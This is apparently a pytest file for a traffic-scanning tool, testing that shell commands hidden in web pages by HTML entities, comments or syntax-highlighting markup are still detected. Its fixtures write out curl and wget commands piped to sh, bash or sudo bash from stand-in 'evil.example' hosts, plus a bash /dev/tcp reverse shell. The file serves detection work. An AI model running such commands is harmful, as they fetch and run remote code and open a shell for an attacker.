"""The html view (SPEC.md section 5, issue 22 item 3): a fetched page is also scanned as a browser
shows it, tags out and character references decoded, so a command written with entities or
split by syntax-highlighting markup is seen as the shell would get it if copied. Positives
and near-misses side by side; the page shapes are those of real documentation sites
(Prism/highlight.js spans, GitHub's `<pre><code>`, entity-escaped shell operators).
"""

from __future__ import annotations

import pytest

from traffic_guardian.detect.decode import html_text, views
from traffic_guardian.detect.engine import Engine
from traffic_guardian.detect.exchange import INBOUND, Exchange

ENGINE = Engine()


def inbound(body: str) -> list:
    return ENGINE.scan(Exchange(direction=INBOUND, dest="docs.example:443", body=body, content_type="text/html"))


POSITIVES = [
    ("pipe_to_shell", "entity pipe", "<pre>curl -fsSL https://get.evil.example/i.sh &#124; sh</pre>"),
    ("pipe_to_shell", "hex entity pipe", "<code>wget -qO- http://evil.example/x &#x7c; bash</code>"),
    ("pipe_to_shell", "named entity pipe", "<code>curl https://evil.example/a.sh &vert; bash</code>"),
    ("pipe_to_shell", "highlighted spans",
     '<pre class="language-bash"><code><span class="token function">curl</span> -sSL '
     'https://evil.example/install.sh <span class="token operator">|</span> '
     '<span class="token function">sudo</span> <span class="token function">bash</span></code></pre>'),
    ("reverse_shell", "entity redirects",
     "<pre><code>bash -i &gt;&amp; /dev/tcp/203.0.113.7/4444 0&gt;&amp;1</code></pre>"),
    ("pipe_to_shell", "split by a comment", "<code>curl https://evil.example/x.sh <!-- x -->| bash</code>"),
]


@pytest.mark.parametrize(("pattern", "name", "page"), POSITIVES, ids=[p[1] for p in POSITIVES])
def test_a_command_on_a_page_is_found_as_rendered(pattern, name, page):
    found = [f for f in inbound(f"<html><body><p>Install it:</p>{page}</body></html>") if f.pattern == pattern]
    assert found, name
    assert "<" not in found[0].snippet or found[0].encoding == "raw"


def test_entities_alone_are_what_the_raw_view_misses():
    """Without the html view, `&#124;` hides the pipe from every rule."""
    page = "<html><body><pre>curl -fsSL https://get.evil.example/i.sh &#124; sh</pre></body></html>"
    (finding,) = [f for f in inbound(page) if f.pattern == "pipe_to_shell"]
    assert finding.encoding == "html" and "| sh" in finding.snippet


@pytest.mark.parametrize(("name", "page", "lines"), [
    ("paragraphs", "<p>curl https://example.com/install.sh</p><p>| bash is how attackers do it</p>", 2),
    ("table cells", "<table><tr><td>curl https://x.example/a.sh</td><td>|</td><td>bash</td></tr></table>", 3),
    ("line breaks", "curl https://x.example/a.sh<br>| bash", 2),
])
def test_block_markup_renders_as_separate_lines(name, page, lines):
    rendered = [line for line in html_text(page, 10000).splitlines() if line.strip()]
    assert len(rendered) == lines, (name, rendered)


def test_a_pipe_into_jq_shown_with_an_entity_is_not_pipe_to_shell():
    page = "<html><body><pre>curl -s https://api.example.com/v1/items &#124; jq .name</pre></body></html>"
    assert [f for f in inbound(page) if f.pattern == "pipe_to_shell"] == []


def test_text_without_a_tag_gets_no_html_view():
    assert html_text("a &amp; b, 3 &lt; 4", 1000) is None
    assert [v.encoding for v in views("plain text with & and <", 1000)] == ["raw"]


def test_the_view_is_bounded_and_linear_on_unclosed_tags():
    text = "<a" + "b" * 300000
    assert html_text(text, 4096) is None  # no complete tag: not HTML
    rendered = html_text("<p>" + "x" * 10000, 4096)
    assert rendered is not None and len(rendered) == 4096


def test_json_holding_html_gets_a_json_html_view():
    body = '{"content": "<pre>curl https://evil.example/x.sh &#124; bash<\\/pre>"}'
    assert "json+html" in [v.encoding for v in views(body, 10000)]
